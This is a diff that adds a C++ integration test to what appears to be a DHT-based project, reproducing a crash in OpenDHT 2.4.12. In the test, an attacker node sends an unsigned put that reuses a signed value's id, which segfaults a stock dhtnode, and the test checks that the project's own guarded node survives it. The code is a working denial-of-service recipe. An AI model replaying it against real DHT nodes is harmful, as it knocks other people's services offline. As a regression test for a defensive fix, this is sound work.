@@ -14,6 +14,8 @@
 
 #include <catch2/catch.hpp>
 
+#include <csignal>
+
 #include <condition_variable>
 #include <cstdio>
 #include <deque>
@@ -439,4 +441,92 @@ TEST_CASE("dht node: start fails cleanly on a busy port", "[dht][integration]") 
     CHECK(r.error().code == make_error_code(errc::start_failed));
     CHECK(r.error().what().find(std::to_string(o.port)) != std::string::npos);
     CHECK_FALSE(b.running());
+}
+
+// OpenDHT 2.4.12 dies when a put carries a value without an owner that reuses
+// the id of a signed value the node stores, if the stored value's type is one
+// SecureDht registered (the default type 0, and every type a node registers:
+// juice's presence and inbox types on juice nodes). See
+// dht/src/put_guard.hpp. This reproduces it against a stock dhtnode and shows
+// a juice node survive it, for a type-0 value and for a presence record.
+TEST_CASE("dht node: the unsigned-put crash kills a stock dhtnode, not a juice node", "[dht][integration][attack]") {
+    TempDir dir;
+    DhtBootstrap boot(random_network_id(), dir.path());
+    LoopThread loop;
+    const auto& alice = identity(0);
+    const auto& carol = identity(2);
+    DhtNode a(options(boot, loop));
+    REQUIRE(a.start(&alice).ok());
+    REQUIRE(wait_connected(a));
+    std::atomic<bool> published{false};
+    a.publish_presence(record("online", now_ms()), [&](bool ok) { published = ok; });
+    REQUIRE(wait_until([&] { return published.load(); }, 10s));
+
+    // The attacker: plain OpenDHT nodes with a key of their own. (A node
+    // whose put was dropped looks dead to its sender, so each attack below
+    // comes from a fresh one.)
+    ::dht::crypto::Identity cid;
+    {
+        auto k = carol.private_key_pem();
+        auto c = carol.certificate_pem();
+        cid.first = std::make_shared<::dht::crypto::PrivateKey>(::dht::Blob(k.begin(), k.end()), "");
+        cid.second = std::make_shared<::dht::crypto::Certificate>(::dht::Blob(c.begin(), c.end()));
+    }
+    auto attacker = [&](const std::vector<int>& ports) {
+        auto r = std::make_unique<::dht::DhtRunner>();
+        r->run(0, cid, true, boot.network());
+        for (int p : ports) r->bootstrap("127.0.0.1", std::to_string(p));
+        bool known = wait_until(
+            [&] { return r->getNodesStats(AF_INET).good_nodes + r->getNodesStats(AF_INET6).good_nodes >= ports.size(); },
+            10s);
+        REQUIRE(known);
+        return r;
+    };
+    auto wait_put = [](auto&& start) {
+        std::atomic<int> done{-1};
+        start([&](bool ok) { done = ok; });
+        return wait_until([&] { return done != -1; }, 10s) && done == 1;
+    };
+
+    // 1. A signed type-0 value, stored by every node (stock ones included),
+    //    then an unsigned value with its id: the stock dhtnode segfaults.
+    auto mallory = attacker({boot.port(), a.info().port});
+    auto key = ::dht::InfoHash::get("juice-test:crash");
+    auto value = std::make_shared<::dht::Value>(::dht::Blob{'o', 'k'});
+    REQUIRE(wait_put([&](auto cb) { mallory->putSigned(key, value, cb); }));
+    REQUIRE(boot.process().running());
+    wait_put([&](auto cb) { mallory->put(key, ::dht::Value(0, ::dht::Blob{'b', 'o', 'o', 'm'}, value->id), cb); });
+    REQUIRE(wait_until([&] { return !boot.process().running(); }, 15s));
+    CHECK(boot.process().wait(1s) == 128 + SIGSEGV);
+    // The juice node dropped that packet at its socket and carries on.
+    REQUIRE(wait_until([&] { return a.info().puts_refused > 0; }, 10s));
+    CHECK(a.running());
+    auto refused = a.info().puts_refused;
+    mallory->join();
+
+    // 2. Against the juice node's own presence record (a type only juice
+    //    nodes register): read its id, put an unsigned value with that id.
+    auto mallory2 = attacker({a.info().port});
+    auto presence_key = ::dht::InfoHash::get(presence_key_name(alice.id()));
+    std::uint64_t presence_id = 0;
+    REQUIRE(wait_until(
+        [&] {
+            for (const auto& v : mallory2->get(presence_key).get())
+                if (v && v->isSigned()) presence_id = v->id;
+            return presence_id != 0;
+        },
+        10s));
+    wait_put([&](auto cb) {
+        mallory2->put(presence_key, ::dht::Value(k_presence_type_id, ::dht::Blob{'b', 'o', 'o', 'm'}, presence_id),
+                      cb);
+    });
+    REQUIRE(wait_until([&] { return a.info().puts_refused > refused; }, 10s));
+    CHECK(a.running());
+    std::atomic<bool> again{false};
+    a.publish_presence(record("away", now_ms()), [&](bool) { again = true; });
+    CHECK(wait_until([&] { return again.load(); }, 10s));
+    std::printf("[dht] stock dhtnode died (SIGSEGV); juice node refused %llu crash packet(s) and runs on\n",
+                static_cast<unsigned long long>(a.info().puts_refused));
+    mallory2->join();
+    a.stop();
 }
